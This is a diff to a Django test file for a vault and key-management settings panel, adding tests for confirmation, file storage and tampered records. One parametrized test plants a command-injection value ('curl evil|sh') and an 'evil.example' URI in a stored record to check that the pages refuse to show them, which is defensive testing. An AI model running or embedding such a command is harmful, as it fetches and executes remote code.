@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import time
 from datetime import timedelta
 from typing import Any
@@ -14,10 +15,12 @@ from django.utils import timezone
 
 from atoms import actions as atoms
 from atoms.models import Atom, Node
+from extensions.actions import save_extensions
+from extensions.plan import FieldChange
 from operations.actions import sweep
 from tests.conftest import Stage
 from vaults.actions import file_of, settings_of, with_settings
-from vaults.models import ContainerReport, KmsSettings
+from vaults.models import ContainerReport, KmsSettings, PropertiesFile
 
 pytestmark = pytest.mark.django_db(transaction=True)
 TOKEN = "hvs.CAESIcanary-of-the-panel-0123456789"
@@ -58,6 +61,13 @@ class Panel:
         body = {key: value for key, value in asked.items() if value is not None}
         return self.client.post(self.url("kms_settings"), body, headers=HTMX if htmx else {})
 
+    def confirm(self, text: str | None = None, **data: Any) -> Any:
+        """Post the form, read what is asked, and post it again with the button that was shown."""
+        asked = text_of(self.save(text, **data))
+        found = re.search(r'name="confirmed" value="([^"]+)"', asked)
+        assert found, asked
+        return self.save(text, **data, confirmed=found[1])
+
     def check(self, text: str, *, htmx: bool = True) -> Any:
         body = {"file": SimpleUploadedFile("application.yaml", text.encode())}
         return self.client.post(self.url("kms_check"), body, headers=HTMX if htmx else {})
@@ -77,6 +87,15 @@ def reported(atom: Atom, **report: Any) -> ContainerReport:
     node = Node.objects.create(atom=atom, host_name="orders-01", state="enrolled", enrolled_at=now, last_seen_at=now)
     known = {"values": 14, "environment": atom.environment, "revision": 0, "sealed_at": now, "reported_at": now}
     return ContainerReport.objects.create(node=node, **(known | report))
+
+
+def save_extensions_of(stage: Stage) -> None:
+    save_extensions(
+        stage.production,
+        [FieldChange(stage.field("host"), "plain", "db.test")],
+        expected_revision=0,
+        actor=stage.alice,
+    )
 
 
 # -- saving ------------------------------------------------------------------------------------------------------------
@@ -145,7 +164,7 @@ def test_a_stale_form_gets_the_conflict_and_overwrites_nothing(panel: Panel) -> 
 
 def test_a_double_click_saves_once(panel: Panel) -> None:
     assert panel.save(SAMPLE, expected_revision=1).status_code == 200
-    assert panel.save(SAMPLE, expected_revision=1, confirmed="replace-2").status_code == 200
+    assert panel.save(SAMPLE, expected_revision=1).status_code == 200
     assert settings_of(with_settings(panel.atom)).revision == 2
 
 
@@ -177,8 +196,8 @@ def test_turning_off_a_live_one_asks_first_and_says_what_follows(panel: Panel) -
     for words in ("Turn off Bring Your Own Vault for Orders Atom?", "14 values", "1 container"):
         assert words in text_of(asked)
     assert settings_of(with_settings(panel.atom)).is_byov
-    assert panel.save(byov=None, confirmed="replace-2").status_code == 422
-    assert panel.save(byov=None, confirmed="off-2").status_code == 200
+    assert panel.save(byov=None, confirmed="replace-2-kept").status_code == 422
+    assert panel.confirm(byov=None).status_code == 200
     assert not settings_of(with_settings(panel.atom)).is_byov
 
 
@@ -192,6 +211,60 @@ def test_replacing_the_file_and_giving_up_wrapping_ask_too(panel: Panel) -> None
         panel.save(SAMPLE.replace("vault.example", "other.example"), wrapped="on", htmx=False)
     )
     assert settings_of(with_settings(panel.atom)).revision == 2
+
+
+OTHER = SAMPLE.replace("vault.example", "other.example")
+
+
+def test_everything_that_is_given_up_is_asked_and_what_was_shown_is_what_is_confirmed(panel: Panel) -> None:
+    panel.save(SAMPLE, wrapped="on")
+    reported(panel.atom)
+    both = text_of(panel.save(OTHER))
+    for words in ("Replace the properties file", "keep the data key in a file of mode 0600", "keep a plaintext key"):
+        assert words in both
+    found = re.search(r'name="confirmed" value="([^"]+)"', both)
+    assert found is not None
+    third = SAMPLE.replace("vault.example", "third.example")
+    assert panel.save(third, confirmed=found[1]).status_code == 422, "confirmed for another file"
+    assert panel.save(OTHER, wrapped="on", confirmed=found[1]).status_code == 422, "confirmed for another act"
+    assert panel.save(OTHER, confirmed=found[1]).status_code == 200
+    assert not settings_of(with_settings(panel.atom)).wrapped
+
+
+def test_a_confirmation_without_the_file_asks_for_the_file(panel: Panel) -> None:
+    """Without script the file is not sent twice by itself."""
+    panel.save(SAMPLE)
+    found = re.search(r'name="confirmed" value="([^"]+)"', text_of(panel.save(OTHER, htmx=False)))
+    assert found is not None
+    answer = panel.save(htmx=False, confirmed=found[1])
+    assert answer.status_code == 422
+    assert "Choose the file again before you confirm" in text_of(answer)
+
+
+def test_a_file_is_stored_with_bring_your_own_vault_only(panel: Panel, stage: Stage) -> None:
+    assert panel.save(SAMPLE, byov=None).status_code == 200
+    assert file_of(with_settings(panel.atom)) is None
+    panel.save(SAMPLE)
+    panel.confirm(OTHER, byov=None)
+    stored = file_of(with_settings(panel.atom))
+    assert stored is not None
+    assert stored.facts["uri"] == "https://vault.example.com:8200", "turning off replaces nothing"
+    cloud = atoms.create_atom(stage.account, name="Cloud", type="CLOUD", environment=None, actor=stage.alice)
+    sweep()
+    Panel(stage, atom=cloud).save(SAMPLE, byov=None)
+    assert file_of(with_settings(cloud)) is None
+
+
+def test_a_revision_that_no_column_holds_is_refused(panel: Panel) -> None:
+    assert panel.save(SAMPLE, expected_revision=10**20).status_code == 422
+
+
+def test_a_file_named_after_its_token_gets_another_name(panel: Panel) -> None:
+    panel.save(SAMPLE, name=f"{TOKEN}.yaml")
+    assert TOKEN not in text_of(panel.get())
+    stored = file_of(with_settings(panel.atom))
+    assert stored is not None
+    assert stored.name == "properties.yaml"
 
 
 def test_with_the_vault_down_nothing_is_saved_and_the_file_stays_chosen(panel: Panel, settings: Any) -> None:
@@ -221,7 +294,7 @@ def test_a_reader_sees_everything_and_changes_nothing(panel: Panel, stage: Stage
     page = text_of(bob.get())
     assert "application.yaml" in page
     assert 'id="kms-save"' not in page
-    assert bob.save(byov=None, confirmed="off-2").status_code == 403
+    assert bob.save(byov=None).status_code == 403
     assert bob.check(SAMPLE).status_code == 403
 
 
@@ -308,6 +381,8 @@ def test_the_tree_names_the_mode(panel: Panel) -> None:
     assert ">BYOV<" in text_of(panel.client.get(tree))
     panel.save(wrapped="on")
     ContainerReport.objects.update(settings_revision=3)
+    assert ">Failing<" in text_of(panel.client.get(tree)), "its store has a key in a file"
+    ContainerReport.objects.update(wrapped=True)
     assert ">Wrapped<" in text_of(panel.client.get(tree))
     ContainerReport.objects.update(verdict="token_invalid")
     assert ">Failing<" in text_of(panel.client.get(tree))
@@ -333,6 +408,50 @@ def test_a_token_that_is_renewed_no_more_is_the_state_and_an_outage_is_a_warning
     page = text_of(panel.get())
     assert ("takes nothing new" in page) == dropped
     assert ("could not be renewed" in page) != dropped
+
+
+@pytest.mark.parametrize("number", [0, 1, 10**9, 7258118400])
+def test_no_number_a_container_may_report_breaks_the_panel(panel: Panel, number: int) -> None:
+    panel.save(SAMPLE)
+    names = ("ttl", "period", "ends", "renews_every", "next_renewal", "looked_up_at", "renewed_at")
+    reported(panel.atom, settings_revision=2, source="byov", token=dict.fromkeys(names, number) | {"because": "ttl"})
+    assert panel.get().status_code == 200
+
+
+def test_health_is_what_containers_report_and_not_what_the_settings_say(panel: Panel) -> None:
+    save_extensions_of(panel.stage)
+    panel.save(SAMPLE, wrapped="on")
+    report = reported(panel.atom, settings_revision=2, revision=1, source="byov", wrapped=True)
+    assert "No plaintext key is kept there" in text_of(panel.get())
+    for other in ({"wrapped": False}, {"source": "hosted", "wrapped": False}):
+        ContainerReport.objects.filter(pk=report.pk).update(**other)
+        page = text_of(panel.get())
+        assert "Mismatch" in page
+        assert "No plaintext key is kept there" not in page
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"facts": {"uri": "https://evil.example:8200", "confirm": "https://x:1;curl evil|sh #"}},
+        {"facts": []},
+        {"facts": "x"},
+        {"name": "other.yaml"},
+    ],
+)
+def test_what_was_written_past_the_portal_is_on_no_page(panel: Panel, change: dict[str, Any]) -> None:
+    panel.save(SAMPLE)
+    PropertiesFile.objects.update(**change)
+    for name in ("kms_panel", "kms_settings", "kms_policy"):
+        answer = panel.get(name)
+        assert answer.status_code == 403
+        assert "evil" not in text_of(answer)
+
+
+def test_a_mode_written_past_the_portal_is_on_no_page(panel: Panel) -> None:
+    panel.save(SAMPLE)
+    KmsSettings.objects.update(wrapped=True)
+    assert panel.get().status_code == 403
 
 
 def test_a_report_cannot_write_on_the_page(panel: Panel) -> None:
